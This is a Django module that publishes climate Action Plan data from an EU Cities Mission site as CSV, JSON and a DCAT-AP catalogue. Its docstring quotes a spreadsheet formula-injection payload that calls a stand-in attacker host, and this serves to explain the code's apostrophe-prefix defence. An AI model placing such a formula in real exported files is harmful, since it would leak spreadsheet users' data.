"""Open data: every published Action Plan, action and indicator value as CSV and JSON, described in DCAT-AP 3.0.

The records are the ones readers see on the site, and nothing else: plans that are live and under no view
restriction (``ActionPlanPage.objects.published()``), their actions and indicators, and lessons only when they are
published too. The JSON API (``plans.api``) answers with the same records, built by the functions below.

Published under CC BY 4.0: anyone may reuse the data, commercially too, naming the source.

Choices that a reuser meets:

- **Numbers.** Stored decimals are written as they are: as text with a full stop in the CSV files (``380000``,
  ``0.4262``, never a thousands separator), as JSON numbers in the JSON (whole numbers without a fraction).
  Values per 1,000 inhabitants are rounded to six decimal places.
- **UTF-8 with a byte order mark.** Excel opens a CSV file without one in the computer's legacy code page, and
  "Köln" becomes "KÃ¶ln"; with it, Excel reads UTF-8. Python's ``utf-8-sig``, pandas, R and LibreOffice skip it.
- **Formula injection.** A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return) is
  run as a formula by spreadsheet programs: a title such as ``=HYPERLINK("https://evil.example/?"&A1, "…")`` would
  send data elsewhere once the file is opened. Such text cells get a leading apostrophe, which spreadsheets take
  as "this is text" and do not show. Numbers and dates are written by the program, not typed by editors, and are
  left alone, so a negative value stays a number.
- **Streaming.** The CSV files are written while plans are read, a batch of plans (with all their records, in a
  fixed number of queries) at a time, so the files can grow without the server holding them in memory.
"""

import csv
import json
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal

from django.conf import settings
from django.db.models import Count, Max, Min, Q
from django.http import HttpRequest, HttpResponse, StreamingHttpResponse
from django.shortcuts import render
from django.urls import reverse
from django.utils import timezone
from django.views.decorators.http import require_safe

from kb.models import ActionPlanPage, CityPage, attach_cities
from plans.models import Action, CommonIndicator, Indicator, IndicatorValue, StatusUpdate, record_prefetches
from plans.progress import PlanProgress, Timeliness, plan_progress

BATCH_SIZE = 50  # plans read at a time by the downloads: a fixed number of queries per batch, bounded memory
PER_THOUSAND_PLACES = Decimal("0.000001")

LICENCE_NAME = "Creative Commons Attribution 4.0 International (CC BY 4.0)"
LICENCE_URL = "https://creativecommons.org/licenses/by/4.0/"
EU = "http://publications.europa.eu/resource/authority/"
LICENCE = EU + "licence/CC_BY_4_0"  # the EU licence vocabulary's entry for CC BY 4.0, as DCAT-AP asks
DATA_THEMES = EU + "data-theme"
EUROPEAN_UNION = EU + "country/EUR"
UPDATED_CONTINUOUSLY = EU + "frequency/UPDATE_CONT"
PUBLIC_ACCESS = EU + "access-right/PUBLIC"
STABLE = EU + "planned-availability/STABLE"
ENGLISH = EU + "language/ENG"
DATA_THEME_LABELS = {"ENVI": "Environment", "REGI": "Regions and cities", "GOVE": "Government and public sector"}
IANA = "https://www.iana.org/assignments/media-types/"
FORMATS = {  # format key → (media type, EU file type, label)
    "csv": ("text/csv", "CSV", "CSV"),
    "json": ("application/json", "JSON", "JSON"),
    "jsonld": ("application/ld+json", "JSON_LD", "JSON-LD"),
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


# --- values -----------------------------------------------------------------------------------------------------------


def as_number(value: Decimal | None) -> int | float | None:
    """A stored decimal as a JSON number: whole numbers as integers, others as the nearest float."""
    if value is None:
        return None
    return int(value) if value == value.to_integral_value() else float(value)


def decimal_text(value: Decimal) -> str:
    """``380000.00`` → ``380000``, ``0.4200`` → ``0.42``: the value, without trailing zeros or an exponent."""
    text = format(value.normalize(), "f")
    return "0" if text in ("-0", "") else text


def per_thousand(value: Decimal | None, population: int | None) -> Decimal | None:
    """``value`` per 1,000 inhabitants, rounded to six decimal places; ``None`` without a population."""
    if value is None or not population:
        return None
    return (value * 1000 / Decimal(population)).quantize(PER_THOUSAND_PLACES)


def normalised(indicator: Indicator, value: Decimal, population: int | None) -> Decimal | None:
    """The value per 1,000 inhabitants when the network compares its common indicator that way, else ``None``."""
    if indicator.common is None or not indicator.common.per_inhabitants:
        return None
    return per_thousand(value, population)


def _json_default(value):
    if isinstance(value, Decimal):
        return as_number(value)
    if isinstance(value, (date, datetime)):
        return value.isoformat()
    raise TypeError(f"{type(value).__name__} is not JSON serialisable")


def to_json(document) -> str:
    return json.dumps(document, default=_json_default, ensure_ascii=False, indent=1)


# --- the records, loaded in bounded queries ---------------------------------------------------------------------------


def with_records(plans):
    """``plans`` with their city and every record the API and the downloads show, in a fixed number of queries."""
    return plans.with_city().prefetch_related("themes", *record_prefetches())


def published_plans():
    """Every plan readers may see, in tree order (city by city), with its records."""
    return with_records(ActionPlanPage.objects.published().order_by("path"))


def plans_in_batches() -> Iterator[ActionPlanPage]:
    """The published plans with their records, ``BATCH_SIZE`` plans (and one set of queries) at a time."""
    size = BATCH_SIZE
    ids = list(ActionPlanPage.objects.published().order_by("path").values_list("pk", flat=True))
    for start in range(0, len(ids), size):
        batch = ActionPlanPage.objects.published().filter(pk__in=ids[start : start + size])  # still published
        yield from with_records(batch.order_by("path"))


def absolute(request: HttpRequest, url: str | None) -> str | None:
    return request.build_absolute_uri(url) if url else None


def city_record(city: CityPage | None) -> dict | None:
    if city is None:
        return None
    return {"name": city.title, "slug": city.slug, "country": city.country.code, "population": city.population}


def theme_record(theme) -> dict | None:
    return {"name": theme.name, "slug": theme.slug} if theme else None


def plan_reference(plan: ActionPlanPage, request: HttpRequest) -> dict:
    return {"id": plan.pk, "title": plan.title, "url": absolute(request, plan.get_url(request))}


def plan_record(plan: ActionPlanPage, request: HttpRequest, progress: PlanProgress) -> dict:
    """What a plan is, without its actions and indicators: city, status, timeliness, counts and budgets."""
    actions, indicators = list(plan.actions.all()), list(plan.indicators.all())
    return {
        **plan_reference(plan, request),
        "slug": plan.slug,
        "language": plan.language,
        "summary": plan.summary,
        "city": city_record(plan.city),
        "status": plan.status,
        "adopted_on": plan.adopted_on,
        "update_interval_days": plan.update_interval_days,
        "themes": [theme_record(theme) for theme in plan.themes.all()],
        "timeliness": progress.timeliness.value if progress.timeliness else None,
        "counts": {timeliness.value: count for timeliness, count in progress.counts},
        "actions_total": len(actions),
        "indicators_total": len(indicators),
        "budget_planned_eur": plan.total_budget(),
        "budget_spent_eur": plan.total_spent(),
        "last_published_at": plan.last_published_at,
    }


def action_record(action: Action, request: HttpRequest, progress: PlanProgress, *, full: bool = False) -> dict:
    """An action with its derived timeliness; ``full`` adds its description and status updates (newest first)."""
    derived = progress.of(action)
    updates = action.history()
    record = {
        "identifier": action.identifier,
        "title": action.title,
        "url": absolute(request, action.get_url(request)),
        "theme": theme_record(action.theme),
        "phase": action.phase or None,
        "status": action.status,
        "status_reason": action.status_reason,
        "timeliness": derived.timeliness.value,
        "last_update": updates[0].date if updates else None,
        "last_heard": derived.last_heard,
        "planned_start": action.planned_start,
        "planned_end": action.planned_end,
        "actual_start": action.actual_start,
        "actual_end": action.actual_end,
        "budget_planned_eur": action.budget_planned_eur,
        "budget_spent_eur": action.budget_spent_eur,
        "lead_department": action.lead_department,
        "partners": action.partner_list(),
        "indicators": [indicator.identifier for indicator in action.moved_indicators()],
        "lessons": [
            {"id": lesson.pk, "title": lesson.title, "url": absolute(request, lesson.get_url(request))}
            for lesson in action.lessons.all()
        ],
    }
    if full:
        record["description"] = action.description
        record["updates"] = [
            {"date": update.date, "author": update.author, "status": update.status or None, "text": update.text}
            for update in updates
        ]
    return record


def series_record(indicator: Indicator, population: int | None) -> list[dict]:
    return [
        {
            "date": value.date,
            "value": value.value,
            "per_1000_inhabitants": normalised(indicator, value.value, population),
            "source": value.source,
        }
        for value in indicator.series()
    ]


def indicator_record(indicator: Indicator, population: int | None) -> dict:
    baseline = None
    if indicator.baseline_value is not None or indicator.baseline_date is not None:
        baseline = {"date": indicator.baseline_date, "value": indicator.baseline_value}
    goals = sorted(indicator.goals.all(), key=lambda goal: goal.date or date.max)
    return {
        "identifier": indicator.identifier,
        "name": indicator.name,
        "unit": indicator.unit,
        "direction": indicator.direction,
        "common": indicator.common.slug if indicator.common else None,
        "baseline": baseline,
        "goals": [{"date": goal.date, "value": goal.value} for goal in goals],
        "values": series_record(indicator, population),
    }


def plan_document(plan: ActionPlanPage, request: HttpRequest) -> dict:
    """A plan with all its actions (and their status updates) and indicators (and their series)."""
    progress = plan_progress(plan)
    population = plan.city.population if plan.city else None
    return {
        **plan_record(plan, request, progress),
        "body": plan.body,
        "actions": [action_record(action, request, progress, full=True) for action in plan.actions.all()],
        "indicators": [indicator_record(indicator, population) for indicator in plan.indicators.all()],
    }


def common_indicators():
    """The network's common indicators, each with the number of published plans that report it."""
    reported = Q(indicators__plan__in=ActionPlanPage.objects.published())
    plans = Count("indicators__plan", filter=reported, distinct=True)
    return CommonIndicator.objects.annotate(plans=plans).order_by("name")  # Meta.ordering is dropped with GROUP BY


def common_record(common: CommonIndicator) -> dict:
    return {
        "slug": common.slug,
        "name": common.name,
        "unit": common.unit,
        "direction": common.direction,
        "per_inhabitants": common.per_inhabitants,
        "description": common.description,
        "plans": getattr(common, "plans", None),
    }


def common_reports(common: CommonIndicator, request: HttpRequest) -> list[dict]:
    """Every published plan's indicator that reports ``common``: city, plan, and the series raw and per 1,000."""
    indicators = list(
        Indicator.objects.filter(common=common, plan__in=ActionPlanPage.objects.published())
        .select_related("plan", "common")
        .prefetch_related("values")
    )
    attach_cities([indicator.plan for indicator in indicators])
    reports = []
    for indicator in indicators:
        city = indicator.plan.city
        reports.append(
            {
                "plan": plan_reference(indicator.plan, request),
                "city": city_record(city),
                "indicator": {"identifier": indicator.identifier, "name": indicator.name, "unit": indicator.unit},
                "values": series_record(indicator, city.population if city else None),
            }
        )
    return sorted(reports, key=lambda report: ((report["city"] or {}).get("name", ""), report["plan"]["title"]))


# --- CSV --------------------------------------------------------------------------------------------------------------


class _Echo:
    """A file-like object that hands back what it is given: ``csv.writer`` then returns each line."""

    def write(self, value: str) -> str:
        return value


def cell(value) -> str:
    """A value as a CSV cell; text that a spreadsheet would run as a formula is made plain text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, Decimal):
        return decimal_text(value)
    if isinstance(value, (int, float)):
        return str(value)
    if isinstance(value, (date, datetime)):
        return value.isoformat()
    text = str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


def csv_response(filename: str, header: list[str], rows: Iterable[list]) -> StreamingHttpResponse:
    writer = csv.writer(_Echo())

    def lines() -> Iterator[bytes]:
        yield ("\ufeff" + writer.writerow(header)).encode()  # the byte order mark: see the module's docstring
        for row in rows:
            yield writer.writerow([cell(value) for value in row]).encode()

    response = StreamingHttpResponse(lines(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["Access-Control-Allow-Origin"] = "*"  # open data: any site's scripts may read it
    return response


PLAN_COLUMNS = [
    "plan_id", "title", "url", "city", "city_slug", "country", "population", "language", "status", "adopted_on",
    "update_interval_days", "timeliness", "actions", *[f"actions_{value}" for value in Timeliness.values],
    "indicators", "budget_planned_eur", "budget_spent_eur", "themes", "last_published_at",
]  # fmt: skip
ACTION_COLUMNS = [
    "plan_id", "plan_title", "city", "country", "identifier", "title", "url", "theme", "phase", "status",
    "status_reason", "timeliness", "last_update", "last_heard", "planned_start", "planned_end", "actual_start",
    "actual_end", "budget_planned_eur", "budget_spent_eur", "lead_department", "partners", "indicators", "lessons",
    "description",
]  # fmt: skip
VALUE_COLUMNS = [
    "plan_id", "plan_title", "city", "city_slug", "country", "population", "indicator", "indicator_name", "unit",
    "direction", "common_indicator", "date", "value", "value_per_1000_inhabitants", "source",
]  # fmt: skip


def _joined(items) -> str:
    return "; ".join(items)


def plan_rows(request: HttpRequest) -> Iterator[list]:
    for plan in plans_in_batches():
        record = plan_record(plan, request, plan_progress(plan))
        city = record["city"] or {}
        yield [
            record["id"], record["title"], record["url"], city.get("name"), city.get("slug"), city.get("country"),
            city.get("population"), record["language"], record["status"], record["adopted_on"],
            record["update_interval_days"], record["timeliness"], record["actions_total"],
            *[record["counts"][value] for value in Timeliness.values], record["indicators_total"],
            record["budget_planned_eur"], record["budget_spent_eur"],
            _joined(theme["name"] for theme in record["themes"]), record["last_published_at"],
        ]  # fmt: skip


def action_rows(request: HttpRequest) -> Iterator[list]:
    for plan in plans_in_batches():
        progress = plan_progress(plan)
        city = plan.city
        for action in plan.actions.all():
            record = action_record(action, request, progress, full=True)
            yield [
                plan.pk, plan.title, city.title if city else None, city.country.code if city else None,
                record["identifier"], record["title"], record["url"], (record["theme"] or {}).get("name"),
                record["phase"], record["status"], record["status_reason"], record["timeliness"],
                record["last_update"], record["last_heard"], record["planned_start"], record["planned_end"],
                record["actual_start"], record["actual_end"], record["budget_planned_eur"],
                record["budget_spent_eur"], record["lead_department"], _joined(record["partners"]),
                _joined(record["indicators"]), _joined(lesson["url"] or "" for lesson in record["lessons"]),
                record["description"],
            ]  # fmt: skip


def value_rows(request: HttpRequest) -> Iterator[list]:
    for plan in plans_in_batches():
        city = plan.city
        population = city.population if city else None
        for indicator in plan.indicators.all():
            for value in indicator.series():
                yield [
                    plan.pk, plan.title, city.title if city else None, city.slug if city else None,
                    city.country.code if city else None, population, indicator.identifier, indicator.name,
                    indicator.unit, indicator.direction, indicator.common.slug if indicator.common else None,
                    value.date, value.value, normalised(indicator, value.value, population), value.source,
                ]  # fmt: skip


# --- the datasets and their DCAT-AP description -----------------------------------------------------------------------


@dataclass(frozen=True)
class Dataset:
    key: str  # the dataset's identifier (an anchor on the open data page) and the CSV file's name
    title: str
    description: str
    keywords: tuple[str, ...]
    themes: tuple[str, ...]  # codes of the EU data-theme vocabulary
    url_name: str  # of its CSV file
    columns: list[str]


DATASETS = (
    Dataset(
        "plans",
        "Action Plans of the EU Cities Mission network",
        "One row per published Action Plan: city, country, population, status, adoption date, derived timeliness "
        "(late, stale, on_time, completed or cancelled), number of actions per timeliness, planned and spent "
        "budget in euros, themes and address.",
        ("climate neutrality", "Climate City Contract", "action plan", "cities", "EU Cities Mission"),
        ("ENVI", "REGI", "GOVE"),
        "open_data_plans_csv",
        PLAN_COLUMNS,
    ),
    Dataset(
        "actions",
        "Actions of the EU Cities Mission Action Plans",
        "One row per action of a published Action Plan: theme, lead department, partners, phase, reported status "
        "and its reason, derived timeliness, last status update, planned and actual dates, planned and spent "
        "budget in euros, indicators it moves and lessons that informed it.",
        ("climate neutrality", "climate action", "action plan", "monitoring", "cities", "EU Cities Mission"),
        ("ENVI", "REGI", "GOVE"),
        "open_data_actions_csv",
        ACTION_COLUMNS,
    ),
    Dataset(
        "indicator-values",
        "Indicator values of the EU Cities Mission Action Plans",
        "One row per measured value of an indicator of a published Action Plan: city, country, population, "
        "indicator, unit, the network-wide common indicator it reports, date, value, value per 1,000 "
        "inhabitants when the common indicator is compared that way, and source.",
        ("climate neutrality", "indicators", "time series", "monitoring", "cities", "EU Cities Mission"),
        ("ENVI", "REGI", "GOVE"),
        "open_data_indicator_values_csv",
        VALUE_COLUMNS,
    ),
)


def _span(*pairs) -> tuple[date | None, date | None]:
    starts = [start for start, _end in pairs if start]
    ends = [end for _start, end in pairs if end]
    return min(starts, default=None), max(ends, default=None)


def dataset_periods() -> dict[str, tuple[date | None, date | None]]:
    """Each dataset's first and last date (of the records it holds), in a handful of aggregate queries."""
    plans = ActionPlanPage.objects.published()
    adopted = plans.aggregate(start=Min("adopted_on"), end=Max("adopted_on"))
    actions = Action.objects.filter(plan__in=plans).aggregate(
        planned_start=Min("planned_start"),
        actual_start=Min("actual_start"),
        planned_end=Max("planned_end"),
        actual_end=Max("actual_end"),
    )
    updates = StatusUpdate.objects.filter(action__plan__in=plans).aggregate(start=Min("date"), end=Max("date"))
    values = IndicatorValue.objects.filter(indicator__plan__in=plans).aggregate(start=Min("date"), end=Max("date"))
    action_span = _span(
        (actions["planned_start"], actions["planned_end"]),
        (actions["actual_start"], actions["actual_end"]),
        (updates["start"], updates["end"]),
    )
    return {
        "plans": _span((adopted["start"], adopted["end"]), action_span),
        "actions": action_span,
        "indicator-values": (values["start"], values["end"]),
    }


def _text(value: str) -> dict:
    return {"@value": value, "@language": "en"}


def _ref(uri: str, kind: str | None = None) -> dict:
    """A reference to ``uri``; ``kind`` states its class, so that the document validates without the vocabulary."""
    return {"@id": uri, "@type": kind} if kind else {"@id": uri}


def _theme(code: str) -> dict:
    return {**_ref(f"{DATA_THEMES}/{code}", "skos:Concept"), "skos:prefLabel": _text(DATA_THEME_LABELS[code])}


def _typed(value, datatype: str) -> dict:
    return {"@value": value.isoformat(), "@type": f"xsd:{datatype}"}


def _distribution(uri: str, url: str, format_key: str, title: str, description: str, modified) -> dict:
    media_type, file_type, _label = FORMATS[format_key]
    distribution = {
        "@id": uri,
        "@type": "dcat:Distribution",
        "dct:title": _text(title),
        "dct:description": _text(description),
        "dcat:accessURL": _ref(url),
        "dcat:downloadURL": _ref(url),
        "dcat:mediaType": _ref(IANA + media_type, "dct:MediaType"),
        "dct:format": _ref(EU + "file-type/" + file_type, "dct:MediaTypeOrExtent"),
        "dct:license": _ref(LICENCE, "dct:LicenseDocument"),
        "dcatap:availability": _ref(STABLE, "skos:Concept") | {"skos:prefLabel": _text("stable")},
    }
    if modified:
        distribution["dct:modified"] = _typed(modified, "dateTime")
    return distribution


def publisher_name() -> str:
    return settings.OPEN_DATA_PUBLISHER


def catalogue(request: HttpRequest) -> dict:
    """The DCAT-AP 3.0 catalogue of the datasets, as JSON-LD, with absolute addresses built from the request."""
    page = request.build_absolute_uri(reverse("open_data"))
    json_url = request.build_absolute_uri(reverse("open_data_json"))
    published = ActionPlanPage.objects.published().aggregate(
        issued=Min("first_published_at"), modified=Max("last_published_at")
    )
    periods = dataset_periods()
    publisher = {
        "@id": request.build_absolute_uri("/") + "#publisher",
        "@type": "foaf:Agent",
        "foaf:name": _text(publisher_name()),
        "foaf:homepage": _ref(request.build_absolute_uri("/"), "foaf:Document"),
    }
    contact = {"@type": ["vcard:Organization", "vcard:Kind"], "vcard:fn": publisher_name(), "vcard:hasURL": _ref(page)}
    datasets = []
    for dataset in DATASETS:
        uri = f"{page}#{dataset.key}"
        csv_url = request.build_absolute_uri(reverse(dataset.url_name))
        entry = {
            "@id": uri,
            "@type": "dcat:Dataset",
            "dct:identifier": uri,
            "dct:title": _text(dataset.title),
            "dct:description": _text(dataset.description),
            "dcat:keyword": [_text(keyword) for keyword in dataset.keywords],
            "dcat:theme": [_theme(code) for code in dataset.themes],
            "dct:spatial": _ref(EUROPEAN_UNION, "dct:Location"),
            "dct:publisher": _ref(publisher["@id"]),
            "dcat:contactPoint": contact,
            "dct:accessRights": _ref(PUBLIC_ACCESS, "dct:RightsStatement"),
            "dct:accrualPeriodicity": _ref(UPDATED_CONTINUOUSLY, "dct:Frequency"),
            "dcat:landingPage": _ref(f"{page}#{dataset.key}", "foaf:Document"),
            "dcat:distribution": [
                _distribution(
                    f"{uri}-csv",
                    csv_url,
                    "csv",
                    f"{dataset.title} (CSV)",
                    "UTF-8 with a byte order mark, comma-separated, one header row: "
                    + ", ".join(dataset.columns)
                    + ".",
                    published["modified"],
                ),
                _distribution(
                    f"{uri}-json",
                    json_url,
                    "json",
                    "All Action Plans, actions and indicators (JSON)",
                    "One JSON document with every published plan, its actions with their status updates, and its "
                    "indicators with baseline, goals and values; it holds this dataset and the others.",
                    published["modified"],
                ),
            ],
        }
        start, end = periods[dataset.key]
        if start or end:
            entry["dct:temporal"] = {
                "@type": "dct:PeriodOfTime",
                **({"dcat:startDate": _typed(start, "date")} if start else {}),
                **({"dcat:endDate": _typed(end, "date")} if end else {}),
            }
        if published["issued"]:
            entry["dct:issued"] = _typed(published["issued"], "dateTime")
        if published["modified"]:
            entry["dct:modified"] = _typed(published["modified"], "dateTime")
        datasets.append(entry)
    service = {
        "@id": f"{page}#api",
        "@type": "dcat:DataService",
        "dct:title": _text(f"{settings.WAGTAIL_SITE_NAME} JSON API"),
        "dct:description": _text("Plans, actions, indicators and common indicators as JSON, documented in OpenAPI."),
        "dcat:endpointURL": _ref(request.build_absolute_uri("/api/")),
        "dcat:endpointDescription": _ref(request.build_absolute_uri("/api/openapi.json")),
        "dcat:servesDataset": [_ref(entry["@id"]) for entry in datasets],
        "dct:license": _ref(LICENCE, "dct:LicenseDocument"),
        "dct:publisher": _ref(publisher["@id"]),
        "dct:conformsTo": _ref("https://spec.openapis.org/oas/v3.1.0", "dct:Standard"),
        "dcat:contactPoint": contact,
        "dcat:keyword": [_text(keyword) for keyword in ("API", "OpenAPI", "action plan", "indicators")],
        "dcat:theme": [_theme(code) for code in DATA_THEME_LABELS],
    }
    document = {
        "@context": {
            "dcat": "http://www.w3.org/ns/dcat#",
            "dct": "http://purl.org/dc/terms/",
            "foaf": "http://xmlns.com/foaf/0.1/",
            "skos": "http://www.w3.org/2004/02/skos/core#",
            "vcard": "http://www.w3.org/2006/vcard/ns#",
            "xsd": "http://www.w3.org/2001/XMLSchema#",
            "dcatap": "http://data.europa.eu/r5r/",
        },
        "@id": request.build_absolute_uri(reverse("open_data_catalog")),
        "@type": "dcat:Catalog",
        "dct:title": _text(f"{settings.WAGTAIL_SITE_NAME}: open data"),
        "dct:description": _text(
            "Action Plans of the cities of the EU Mission on Climate-Neutral and Smart Cities: the plans, their "
            "actions with status and timeliness, and their indicators' measured values, as CSV and JSON."
        ),
        "dct:publisher": publisher,
        "dct:license": _ref(LICENCE, "dct:LicenseDocument"),
        "dct:language": _ref(ENGLISH, "dct:LinguisticSystem"),
        "dct:spatial": _ref(EUROPEAN_UNION, "dct:Location"),
        "foaf:homepage": _ref(page, "foaf:Document"),
        "dcat:themeTaxonomy": {**_ref(DATA_THEMES, "skos:ConceptScheme"), "dct:title": _text("Data theme")},
        "dcat:dataset": datasets,
        "dcat:service": [service],
    }
    if published["issued"]:
        document["dct:issued"] = _typed(published["issued"], "dateTime")
    if published["modified"]:
        document["dct:modified"] = _typed(published["modified"], "dateTime")
    return document


# --- views ------------------------------------------------------------------------------------------------------------


@require_safe
def index(request: HttpRequest):
    """The open data page: the datasets, their files, the licence, how often they change, the catalogue."""
    plans = ActionPlanPage.objects.published()
    counts = {
        "plans": plans.count(),
        "actions": Action.objects.filter(plan__in=plans).count(),
        "indicator-values": IndicatorValue.objects.filter(indicator__plan__in=plans).count(),
    }
    modified = plans.aggregate(modified=Max("last_published_at"))["modified"]
    datasets = [
        {
            "key": dataset.key,
            "title": dataset.title,
            "description": dataset.description,
            "rows": counts[dataset.key],
            "csv": reverse(dataset.url_name),
            "filename": reverse(dataset.url_name).rsplit("/", 1)[-1],
            "columns": dataset.columns,
        }
        for dataset in DATASETS
    ]
    context = {
        "datasets": datasets,
        "modified": modified,
        "licence_name": LICENCE_NAME,
        "licence_url": LICENCE_URL,
        "json_url": reverse("open_data_json"),
        "catalog_url": reverse("open_data_catalog"),
    }
    return render(request, "plans/open_data.html", context)


@require_safe
def plans_csv(request: HttpRequest):
    return csv_response("plans.csv", PLAN_COLUMNS, plan_rows(request))


@require_safe
def actions_csv(request: HttpRequest):
    return csv_response("actions.csv", ACTION_COLUMNS, action_rows(request))


@require_safe
def indicator_values_csv(request: HttpRequest):
    return csv_response("indicator-values.csv", VALUE_COLUMNS, value_rows(request))


@require_safe
def open_data_json(request: HttpRequest):
    """Everything in one document: the common indicators, and every plan with its actions and indicators."""
    document = {
        "title": f"{settings.WAGTAIL_SITE_NAME}: Action Plans, actions and indicators",
        "licence": {"name": LICENCE_NAME, "url": LICENCE_URL},
        "publisher": publisher_name(),
        "generated_at": timezone.now(),
        "catalog": request.build_absolute_uri(reverse("open_data_catalog")),
        "notes": "Quantities are JSON numbers written from the stored decimals (euros with at most 2 decimal places, "
        "indicator values with at most 4); per_1000_inhabitants is rounded to 6 and is null unless the common "
        "indicator is compared per inhabitants and the city's population is known.",
        "common_indicators": [common_record(common) for common in common_indicators()],
        "plans": [plan_document(plan, request) for plan in plans_in_batches()],
    }
    response = HttpResponse(to_json(document), content_type="application/json")
    response["Content-Disposition"] = 'inline; filename="open-data.json"'
    response["Access-Control-Allow-Origin"] = "*"
    return response


@require_safe
def catalog_jsonld(request: HttpRequest):
    response = HttpResponse(to_json(catalogue(request)), content_type="application/ld+json")
    response["Access-Control-Allow-Origin"] = "*"
    return response
